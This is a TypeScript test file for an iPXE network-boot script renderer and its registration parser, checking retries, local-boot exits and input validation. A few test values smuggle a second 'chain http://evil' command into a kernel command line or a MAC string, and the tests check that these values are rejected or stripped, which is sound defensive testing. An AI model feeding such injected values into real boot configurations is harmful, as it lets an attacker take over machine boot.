import { test } from "node:test";
import assert from "node:assert/strict";
import {
  renderInstallScript,
  renderLocalBootScript,
  renderUnknownScript,
  unsafeForScript,
} from "../../src/boot/script.js";
import { parseRegistration } from "../../src/registry/registration.js";

test("install script retries each download a bounded number of times", () => {
  const s = renderInstallScript({
    kernelUrl: "http://a/k",
    initrdUrl: "http://a/i",
    cmdline: "console=ttyS0 x=1",
    tries: 3,
  });
  assert.match(s, /^#!ipxe\n/);
  assert.equal(
    s.match(/^kernel http:\/\/a\/k initrd=initrd console=ttyS0 x=1 && goto initrd \|\|$/gm)?.length,
    3,
  );
  assert.equal(s.match(/^initrd http:\/\/a\/i && goto boot \|\|$/gm)?.length, 3);
  assert.match(s, /^exit 1$/m);
});

test("local boot script exits to the firmware", () => {
  assert.equal(
    renderLocalBootScript()
      .split("\n")
      .filter((l) => l && !l.startsWith("#"))
      .join(),
    "exit 1",
  );
});

test("newlines and ${ are refused, in the renderer and at registration", () => {
  assert.match(unsafeForScript("a\nb") ?? "", /newline/);
  assert.match(unsafeForScript("a ${net0/mac}") ?? "", /expansion/);
  assert.equal(unsafeForScript("console=ttyS0,115200 quiet"), null);
  assert.throws(
    () =>
      renderInstallScript({
        kernelUrl: "k",
        initrdUrl: "i",
        cmdline: "x\nchain http://evil",
        tries: 1,
      }),
    /newline/,
  );
  const base = { kernel: "/k", initrd: "/i" };
  assert.throws(
    () => parseRegistration({ ...base, cmdline: "a\nb" }),
    /cmdline: contains a newline/,
  );
  assert.throws(() => parseRegistration({ ...base, cmdline: "${x}" }), /cmdline: contains "\$\{"/);
  assert.throws(
    () => parseRegistration({ ...base, cmdline: "landscaper.token=x" }),
    /cmdline: landscaper\./,
  );
  assert.throws(
    () => parseRegistration({ ...base, kernel: "relative/k" }),
    /kernel: expected an absolute path/,
  );
  assert.throws(() => parseRegistration({ ...base, colour: "red" }), /colour: unknown field/);
  assert.throws(() => parseRegistration({ initrd: "/i" }), /kernel: required/);
  assert.throws(() => parseRegistration({ ...base, hostname: "bad_name" }), /hostname/);
  assert.throws(
    () => parseRegistration({ ...base, job: { steps: [{ phase: "x" }] } }),
    /job\.steps\[0\]\.run/,
  );
  assert.throws(
    () =>
      parseRegistration({ ...base, installationHostKey: { publicKey: "nope", privateKey: "x" } }),
    /installationHostKey\.publicKey/,
  );
});

test("the install script, whole: each download tried, 2 s apart, then the next boot device", () => {
  const twice = renderInstallScript({
    kernelUrl: "http://a/k",
    initrdUrl: "http://a/i",
    cmdline: "quiet",
    tries: 2,
  });
  assert.equal(
    twice,
    [
      "#!ipxe",
      "# Landscaper: install",
      "kernel http://a/k initrd=initrd quiet && goto initrd ||",
      "sleep 2",
      "kernel http://a/k initrd=initrd quiet && goto initrd ||",
      "goto fail",
      ":initrd",
      "initrd http://a/i && goto boot ||",
      "sleep 2",
      "initrd http://a/i && goto boot ||",
      "goto fail",
      ":boot",
      "boot ||",
      ":fail",
      "echo Landscaper: download failed after 2 tries, trying the next boot device",
      "exit 1",
      "",
    ].join("\n"),
  );
  // One try: no pause after the only attempt.
  const once = renderInstallScript({ kernelUrl: "k", initrdUrl: "i", cmdline: "", tries: 1 });
  assert.doesNotMatch(once, /sleep/);
  assert.match(once, /^echo Landscaper: download failed after 1 tries/m);
});

test("each templated value is checked and named when refused", () => {
  const ok = { kernelUrl: "http://a/k", initrdUrl: "http://a/i", cmdline: "quiet", tries: 1 };
  const rows: [Partial<typeof ok>, string][] = [
    [{ kernelUrl: "http://a/${k}" }, 'kernel URL contains "${" (iPXE variable expansion)'],
    [{ initrdUrl: "http://a/i\r" }, "initrd URL contains a newline"],
    [{ cmdline: "quiet\x1b[2J" }, "cmdline contains a control character"],
  ];
  for (const [change, message] of rows)
    assert.throws(() => renderInstallScript({ ...ok, ...change }), { message });
});

test("control characters are refused, tab and printable text are not", () => {
  for (const c of ["\0", "\x07", "\x08", "\x0b", "\x0c", "\x0e", "\x1f", "\x7f"])
    assert.equal(unsafeForScript(`a${c}b`), "contains a control character", JSON.stringify(c));
  assert.equal(unsafeForScript("a\tb ~$x {} é"), null);
  assert.equal(unsafeForScript("a\rb"), "contains a newline");
});

test("an unregistered MAC's script echoes only MAC characters and exits to the firmware", () => {
  assert.equal(
    renderUnknownScript("52:54:00:ab:cd:ef"),
    "#!ipxe\necho Landscaper: 52:54:00:ab:cd:ef is not registered\nexit 1\n",
  );
  // Whatever reaches it, nothing but [0-9a-f:] lands in the echo line.
  assert.equal(
    renderUnknownScript("52:54\n${x}chain http://evil"),
    "#!ipxe\necho Landscaper: 52:54ca:e is not registered\nexit 1\n",
  );
});
